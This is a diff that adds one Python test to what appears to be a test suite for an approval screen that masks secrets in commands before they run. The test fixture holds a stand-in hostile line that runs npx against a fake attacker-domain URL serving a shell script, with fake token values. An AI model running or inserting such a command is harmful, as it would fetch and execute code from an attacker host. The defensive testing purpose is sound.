@@ -156,6 +156,15 @@ async def test_secrets_in_what_would_run_are_masked_again_on_the_server(desk: De
     assert secret not in approval.model_dump_json()
 
 
+async def test_nothing_in_what_would_run_is_masked_by_a_name_or_an_option(desk: Desk) -> None:
+    text = "TOKEN = 'evil1cmd'\nrun('npx --api-key evil-pkg2 https://glpat-x1.attacker-domain.com/i.sh', TOKEN)\n"
+    async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=text)):
+        await desk.executor.call(*RUN, desk.session, until_asked=True)
+        approval = await desk.next_approval()
+    assert approval.inspection is not None
+    assert approval.inspection.files[0].text == text
+
+
 async def test_a_script_may_be_granted_while_its_content_stays_the_same(desk: Desk) -> None:
     content = [DIGEST]
     async with desk.client(lambda signal: completed(), sees=lambda request: seen(content[0])) as signals:
